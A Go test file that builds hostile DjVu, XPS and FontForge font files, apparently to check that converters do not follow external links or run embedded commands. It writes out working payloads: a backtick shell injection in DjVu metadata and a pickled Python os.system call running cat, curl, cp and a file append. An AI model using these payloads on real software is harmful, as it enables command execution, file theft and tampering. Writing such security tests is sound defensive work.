package all_test

import "strings"

// hostileScans are pages of djvu that refer to another file, or to a command of what prints their annotations.
func hostileScans() []hostile {
	chunk := func(kind, content string) string {
		if len(content)%2 == 1 {
			content += " "
		}
		return kind + string(size4(len(content))) + content
	}
	djvu := func(kind, format string) func(...link) string {
		return func(links ...link) string {
			return "AT&T" + chunk("FORM", "DJVU"+chunk("INFO", "\x00\x40\x00\x40\x18\x00\x2c\x01\x16\x01")+chunk(kind, each("txt", format)(links...)))
		}
	}
	return []hostile{
		{name: "annotation", from: "djvu", alone: true, content: djvu("ANTa", "(metadata (Author \"\\\n\" . return `cat LINK`; #\"))")},
		{name: "background", from: "djvu", alone: true, content: djvu("ANTa", `(background "LINK")(maparea "LINK" "" (rect 0 0 9 9) (xor))`)},
		{name: "included", from: "djvu", alone: true, content: djvu("INCL", "LINK")},
	}
}

// xpsWithLinks is a document whose page, pictures and resources lie elsewhere.
func xpsWithLinks(links ...link) string {
	const ns = ` xmlns="http://schemas.microsoft.com/xps/2005/06" xmlns:x="http://schemas.microsoft.com/xps/2005/06/resourcedictionary-key"`
	return packed(packedFile{"[Content_Types].xml", contentTypes + `</Types>`},
		packedFile{"_rels/.rels", related + `<Relationship Id="r1" Type="http://schemas.microsoft.com/xps/2005/06/fixedrepresentation" Target="/a.fdseq"/></Relationships>`},
		packedFile{"a.fdseq", `<FixedDocumentSequence` + ns + `><DocumentReference Source="/a.fdoc"/></FixedDocumentSequence>`},
		packedFile{"a.fdoc", `<FixedDocument` + ns + `><PageContent Source="/p.fpage"/></FixedDocument>`},
		packedFile{"p.fpage", `<FixedPage` + ns + ` Width="400" Height="300" xml:lang="en"><Path Data="M 0,200 L 99,200 99,299 0,299 Z" Fill="#ff0000ff"/>` +
			each("png", `<Path Data="M 0,0 L 99,0 99,99 0,99 Z"><Path.Fill><ImageBrush ImageSource="LINK" Viewbox="0,0,64,64" Viewport="0,0,99,99" ViewboxUnits="Absolute" ViewportUnits="Absolute" TileMode="Tile"/></Path.Fill></Path>`)(links...) +
			each("txt", `<Glyphs FontUri="LINK" FontRenderingEmSize="20" OriginX="9" OriginY="50" UnicodeString="x" Fill="#ff000000"/>`)(links...) + `</FixedPage>`})
}

// pickled is a font in FontForge's own format, which it knows under every name, and for which Python calls a shell.
func pickled(links ...link) string {
	python := each("txt", "cos\nsystem\n(S'cat LINK; curl -s LINK; cp LINK out.woff; echo x >> LINK'\ntR.")(links...)
	return "SplineFontDB: 3.2\nFontName: x\nFullName: x\nFamilyName: x\nWeight: Regular\nVersion: 001\nItalicAngle: 0\nUnderlinePosition: -100\nUnderlineWidth: 50\n" +
		"Ascent: 800\nDescent: 200\nPickledDataWithLists: \"" + strings.ReplaceAll(python, `"`, `\"`) + "\"\nEncoding: UnicodeBmp\nBeginChars: 1 1\n\n" +
		"StartChar: A\nEncoding: 65 65 0\nWidth: 500\nEndChar\nEndChars\nEndSplineFont\n"
}
